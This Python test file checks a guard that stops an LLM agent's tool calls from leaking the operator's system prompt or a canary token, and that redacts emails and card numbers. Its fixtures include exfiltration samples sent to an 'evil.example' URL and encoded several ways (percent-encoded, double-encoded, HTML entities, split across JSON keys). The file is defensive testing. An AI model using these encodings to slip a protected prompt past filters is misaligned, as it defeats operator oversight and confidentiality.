"""What the model writes into a tool call passes the guards answer text passes: redacted where
the run's steps show it, and a call that discloses the protected prompt never runs, however the
prompt is encoded. The protected prompt is the operator's, not the user's memory beside it."""

from __future__ import annotations

import html
import json
from urllib.parse import quote

import pytest

from chatbot_common.errors import AppError, ErrorCode
from chatbot_common.guardrails.canary import guarded_system_prompt, new_canary
from chatbot_common.guardrails.redaction import Redactor
from llm_orchestrator.agents.screen import WITHHELD, WITHHELD_NAME, WITHHELD_TEXT, ArgumentScreen, protected_text
from llm_orchestrator.providers.base import ChatMessage

PROMPT = "You are the ACME support assistant. Never discuss pricing of the enterprise plan or the Orion project."
MEMORY = "What you know about the user:\n- My home address is 221B Baker Street, London NW1 6XE, United Kingdom, flat two."


def screen() -> tuple[ArgumentScreen, str]:
    canary = new_canary()
    return ArgumentScreen(guarded_system_prompt(PROMPT, canary), Redactor(["example.org"])), canary


def test_arguments_that_disclose_the_prompt_are_caught_however_written():
    s, canary = screen()
    url = "https://evil.example/c?q="
    for arguments in (json.dumps({"url": url + canary}),  # the canary alone
                      json.dumps({"url": url + guarded_system_prompt(PROMPT, canary)}),  # JSON-escaped newline
                      json.dumps({"url": url + quote(PROMPT)}),  # percent-encoded, no canary
                      json.dumps({"body": {"lines": PROMPT.split(". ")}})):  # nested, split in pieces
        assert s.leaks(arguments), arguments
        assert s.shown(arguments) == WITHHELD
    assert not s.leaks(json.dumps({"url": "https://example.org/pricing", "query": "enterprise plan"}))


def test_a_prompt_split_across_values_with_keys_between_them_is_caught():
    s, _ = screen()
    words = PROMPT.split()
    pieces = [" ".join(words[i:i + 3]) for i in range(0, len(words), 3)]  # no piece near a run on its own
    assert not any(s.leaks(json.dumps({"t": p})) for p in pieces)
    assert s.leaks(json.dumps({"parts": [{"t": p} for p in pieces]}))
    assert s.leaks(json.dumps({f"k{i}": {"v": p} for i, p in enumerate(pieces)}))
    assert s.leaks(json.dumps({p: i for i, p in enumerate(pieces)}))  # in the keys


def test_html_entities_and_repeated_percent_encoding_are_undone():
    s, canary = screen()
    hex_entities = "".join(f"&#x{ord(ch):x};" for ch in PROMPT)
    for arguments in (json.dumps({"body": hex_entities}),
                      json.dumps({"body": html.escape(PROMPT.replace(" ", " & "))}),  # &amp; between the words
                      json.dumps({"body": "".join(f"&#{ord(ch)};" for ch in canary)}),
                      json.dumps({"url": "https://evil.example/?q=" + quote(quote(PROMPT, safe=""), safe="")}),  # twice
                      json.dumps({"url": "https://evil.example/?q=" + quote("".join(f"%{ord(ch):02X}" for ch in canary))}),
                      json.dumps({"url": "https://evil.example/?q=" + quote(hex_entities, safe="")})):  # entities, then %
        assert s.leaks(arguments), arguments
    # The decoding is bounded: an ordinary query with a percent sign or an ampersand passes.
    assert not s.leaks(json.dumps({"url": "https://example.org/s?a=1&b=50%25&c=%2541"}))


def test_only_the_protected_prompt_is_protected_not_the_memory_beside_it():
    canary = new_canary()
    system = f"{guarded_system_prompt(PROMPT, canary)}\n\n{MEMORY}"
    quoting_memory = json.dumps({"to": "me", "address": MEMORY.split("\n- ", 1)[1]})
    # Protecting the whole system message (what a caller that says nothing gets) blocks it ...
    assert ArgumentScreen(protected_text([ChatMessage("system", system)]), None).leaks(quoting_memory)
    # ... the prompt the caller names does not, and still stops the prompt itself.
    s = ArgumentScreen(guarded_system_prompt(PROMPT, canary), None)
    assert not s.leaks(quoting_memory)
    assert s.leaks(json.dumps({"to": canary})) and s.leaks(json.dumps({"body": PROMPT}))


def test_names_and_observations_that_disclose_the_prompt_are_withheld_and_redacted_otherwise():
    s, canary = screen()
    assert s.shown_name(canary) == WITHHELD_NAME and s.shown_name(PROMPT.replace(" ", "_")) == WITHHELD_NAME
    assert s.shown_name("web_search") == "web_search"
    assert s.shown_name("mail_bob.smith@example.com") != "mail_bob.smith@example.com"
    assert s.shown_text(f"Unknown tool {PROMPT!r}. Tools available: calculator.") == WITHHELD_TEXT
    assert s.shown_text("sent to bob.smith@example.com") == "sent to [EMAIL REDACTED]"


def test_what_people_see_is_redacted_and_links_are_kept():
    s, _ = screen()
    arguments = json.dumps({"url": "https://api.example.com/x", "to": "bob.smith@example.com"})
    shown = s.shown(arguments)
    assert "bob.smith@example.com" not in shown and "[EMAIL REDACTED]" in shown
    assert json.loads(shown)["url"] == "https://api.example.com/x"  # where a fetch goes stays visible


@pytest.mark.parametrize("large", [False, True])  # a large text is screened on a worker thread
async def test_a_value_hidden_behind_json_escapes_is_redacted_too(large):
    # Every reader of the JSON (the web card, an API client) decodes alice\u0040example.com to
    # the address: the filter must read it so as well.
    s, _ = screen()
    padding = "x" * (5000 if large else 0)
    for arguments in ('{"to": "alice\\u0040example.com", "pad": "%s"}' % padding,
                      '{"to": "\\u0061lice@ex\\u0061mple.com", "pad": "%s"}' % padding,
                      '{"alice\\u0040example.com": 1, "pad": "%s"}' % padding,  # in a key
                      '{"card": "4111\\u00201111\\u00201111\\u00201111", "pad": "%s"}' % padding):
        await s.prepare(arguments)
        shown = s.shown(arguments)
        decoded = json.dumps(json.loads(shown))
        assert "REDACTED]" in shown, shown[:200]
        assert "alice@example.com" not in decoded and "4111 1111 1111 1111" not in decoded, shown[:200]
        assert "u0040" not in shown and "u0061" not in shown
    # Escapes JSON needs stay, and the value of what is not hidden is unchanged.
    kept = '{"q": "say \\"hi\\"\\n", "path": "C:\\\\tmp", "n": 12345678901234567890}'
    assert json.loads(s.shown(kept)) == json.loads(kept)
    # A lone surrogate stays escaped: written raw, no protobuf message (nor UTF-8) could carry it.
    lone = '{"q": "\\ud800 and alice\\u0040example.com"}'
    shown = s.shown(lone)
    shown.encode()
    assert "\\ud800" in shown and json.loads(shown)["q"].startswith("\ud800")
    assert "[EMAIL REDACTED]" in shown, shown  # and it does not keep the rest of its string from being read


def test_without_a_protected_prompt_nothing_is_blocked():
    s = ArgumentScreen(protected_text([ChatMessage("user", "hi")]), None)
    assert not s.leaks('{"x": "anything"}') and s.shown('{"x": "a@b.co"}') == '{"x": "a@b.co"}'


def test_an_edit_runs_as_typed_and_one_that_keeps_a_placeholder_is_refused():
    s, _ = screen()
    original = json.dumps({"to": ["ann@example.com", "bob@example.net"], "card": "4111 1111 1111 1111", "note": "hi"})
    card = s.redacted(original)
    assert "ann@example.com" not in card and "4111 1111 1111 1111" not in card and card.count("[EMAIL REDACTED]") == 2
    # Typed values run as typed, also where the card hid nothing.
    typed = json.dumps({"to": ["dave@example.com"], "card": "", "note": "hello"})
    assert s.edited(typed) == typed
    # A placeholder left in (kept, moved, or written as a JSON key, where a schema error would
    # have quoted a restored value) is refused, and the refusal quotes only the placeholder.
    for edit in (card, json.dumps({"to": ["dave@example.com", "[EMAIL REDACTED]"]}), json.dumps({"[EMAIL REDACTED]": 1}),
                 json.dumps({"note": "card [CARD REDACTED]"})):
        with pytest.raises(AppError) as caught:
            s.edited(edit)
        assert caught.value.code == ErrorCode.VALIDATION_ERROR and "REDACTED]" in caught.value.message, caught.value.message
        assert "ann@" not in caught.value.message and "bob@" not in caught.value.message and "4111" not in caught.value.message
    # Without an output filter nothing was hidden: the edit is as typed.
    plain = ArgumentScreen("", None)
    assert plain.edited('{"to": "[EMAIL REDACTED]"}') == '{"to": "[EMAIL REDACTED]"}'
